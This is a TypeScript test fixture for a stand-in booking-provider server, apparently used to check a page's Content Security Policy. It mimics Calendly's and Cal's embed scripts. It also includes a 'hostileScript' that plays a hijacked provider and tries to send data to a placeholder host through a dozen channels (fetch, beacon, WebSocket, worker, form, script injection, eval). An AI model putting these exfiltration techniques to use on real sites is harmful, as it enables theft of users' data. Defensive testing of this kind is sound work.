/**
 * What the stand-in for a booking provider sends to the browser: functions that run there, as their source text.
 * The first two do what the real embeds do as far as a page notices it, in the order in which they do it.
 */

/** Calendly's `widget.js`: one global, an iframe inside the element that it is given. */
export function calendlyScript(this: typeof globalThis): void {
  const initInlineWidget = ({ url, parentElement }: { url: string; parentElement: HTMLElement }) => {
    const frame = document.createElement('iframe');
    frame.src = `${url.split('?')[0]}?embed_domain=${encodeURIComponent(location.host)}&embed_type=Inline`;
    frame.width = '100%';
    frame.height = '100%';
    const spinner = document.createElement('div');
    spinner.className = 'calendly-spinner';
    frame.onload = () => {
      spinner.style.visibility = 'hidden';
    };
    parentElement.append(spinner, frame);
  };
  const autoLoad = () => {
    for (const element of document.querySelectorAll<HTMLElement>('.calendly-inline-widget:not([data-auto-load])')) {
      initInlineWidget({ url: element.dataset.url ?? '', parentElement: element });
    }
  };
  Object.assign(this, { Calendly: { initInlineWidget }, bodyScrollLock: {} });
  autoLoad();
}

/** Cal's `embed.js`: takes over the queue it finds, defines elements, writes HTML and styles, and never stops polling. */
export function calScript(): void {
  class Loading extends HTMLElement {
    constructor() {
      super();
      const root = this.attachShadow({ mode: 'open' });
      root.innerHTML = '<style>p { position: absolute; }</style><p>Cal lädt</p><slot></slot>';
    }
    static readonly observedAttributes = ['loading'];
    attributeChangedCallback(): void {
      this.shadowRoot?.querySelector('p')?.remove();
    }
  }
  for (const name of ['cal-modal-box', 'cal-floating-button'])
    customElements.define(name, class extends HTMLElement {});
  customElements.define('cal-inline', Loading);

  type Instruction = readonly [string, Record<string, unknown>];
  const { Cal } = window as unknown as { Cal?: { q: Instruction[]; ns: object } };
  if (!Cal?.q) throw new Error("Cal is not defined. This shouldn't happen");
  const variables = document.createElement('style');
  variables.textContent = 'cal-inline { --cal-brand: black; }';
  document.head.append(variables);
  document.head.appendChild(document.createElement('style')).innerHTML = '.cal-embed { border: 0; min-height: 300px; }';

  let origin = '';
  let frame: HTMLIFrameElement | undefined;
  let inline: Element | null = null;
  const instructions: Record<string, (argument: Record<string, unknown>) => void> = {
    init(argument) {
      origin = argument.origin as string;
    },
    inline(argument) {
      frame = document.createElement('iframe');
      frame.className = 'cal-embed';
      frame.title = 'Book a call';
      const url = new URL(`${origin}/${argument.calLink as string}`);
      url.pathname += '/embed';
      url.searchParams.set('embed', '');
      url.searchParams.set('embedType', 'inline');
      frame.style.visibility = 'hidden';
      frame.src = url.href;
      frame.style.height = '100%';
      frame.style.width = '100%';
      const template = document.createElement('template');
      template.innerHTML =
        '<cal-inline style="height: inherit; display: flex; width: 100%"></cal-inline><style>.x { color: red; }</style>';
      inline = template.content.firstElementChild;
      inline?.append(frame);
      (argument.elementOrSelector as HTMLElement).append(template.content);
    },
  };
  const run = ([name, argument]: Instruction) => instructions[name]?.(argument);
  Cal.q.splice(0).forEach(run);
  Cal.q.push = (instruction) => {
    run(instruction);
    return 0;
  };
  Object.keys(Cal.ns); // the snippet has it; without, this throws
  addEventListener('message', ({ data }) => {
    if (data.fullType === 'CAL::__iframeReady') {
      frame?.contentWindow?.postMessage({ originator: 'CAL', method: 'parentKnowsIframeReady' }, '*');
    }
    if (data.fullType === 'CAL::__dimensionChanged' && frame) frame.style.height = `${data.data.iframeHeight}px`;
    if (data.fullType === 'CAL::linkReady' && frame) {
      frame.style.visibility = '';
      inline?.setAttribute('loading', 'done');
    }
  });
  document.addEventListener('click', () => {});
  setInterval(() => getComputedStyle(document.body).colorScheme, 50);
}

/** A provider that was taken over: tries to carry data away from the page, to `elsewhere`. */
export function hostileScript(elsewhere: string): void {
  const tries: Record<string, () => unknown> = {
    fetch: () => fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }),
    beacon: () => navigator.sendBeacon(`${elsewhere}/beacon`, 'secret'),
    image: () => {
      new Image().src = `${elsewhere}/image.png`;
    },
    socket: () => new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`),
    events: () => new EventSource(`${elsewhere}/events`),
    worker: () => new Worker(`data:text/javascript,fetch("${elsewhere}/worker")`),
    style: () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${elsewhere}/style.css`;
      document.head.append(link);
    },
    frame: () => {
      const frame = document.createElement('iframe');
      frame.src = `${elsewhere}/frame`;
      document.body.append(frame);
    },
    script: () => {
      const script = document.createElement('script');
      script.src = `${elsewhere}/script.js`;
      document.head.append(script);
    },
    form: () => {
      const form = document.createElement('form');
      form.action = `${elsewhere}/form`;
      document.body.append(form);
      form.submit();
    },
    html: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x">');
    },
    code: () => {
      // biome-ignore lint/security/noGlobalEval: this is what an attacker would do
      globalThis.eval('window.evaluated = true');
    },
  };
  const outcome: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      const result = attempt();
      outcome[name] = 'tried';
      if (result instanceof Promise) result.catch(() => undefined);
    } catch (error) {
      outcome[name] = (error as Error).name;
    }
  }
  Object.assign(window, { outcome });
}
